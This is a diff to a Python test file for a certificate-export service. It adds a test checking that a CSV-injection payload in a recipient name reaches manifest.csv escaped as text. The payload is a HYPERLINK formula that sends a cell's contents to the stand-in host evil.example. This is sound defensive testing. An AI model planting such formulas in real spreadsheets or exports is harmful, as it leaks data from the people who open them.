@@ -3,6 +3,7 @@ certificate as served: REVOKED stamped, the short address printed."""
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -81,6 +82,16 @@ def test_zip_export_renders_qr_codes_and_certificates_only_when_asked(world: Web
     with_pdfs = client.post(EXPORTS, json={"ids": ids, "certificates": True, "qrCodes": True}, headers=auth)
     with zipfile.ZipFile(io.BytesIO(with_pdfs.data)) as zipped:
         assert {f"certificates/{i}.pdf" for i in ids} | {f"qr/{i}.png" for i in ids} <= set(zipped.namelist())
+
+
+def test_zip_manifest_cells_are_never_spreadsheet_formulas(world: WebWorld, client) -> None:
+    """CSV injection: a recipient named like a formula is written to manifest.csv as text."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    issued = world.issue("formula@example.org", formula)
+    response = client.post(EXPORTS, json={"ids": [issued]}, headers=world.auth("issue"))
+    with zipfile.ZipFile(io.BytesIO(response.data)) as zipped:
+        rows = list(csv.DictReader(io.StringIO(zipped.read("manifest.csv").decode("utf-8"))))
+    assert [row["recipient_name"] for row in rows] == ["'" + formula]
 
 
 def test_short_address_redirects_to_the_verifier_and_is_printed(world: WebWorld, client) -> None:
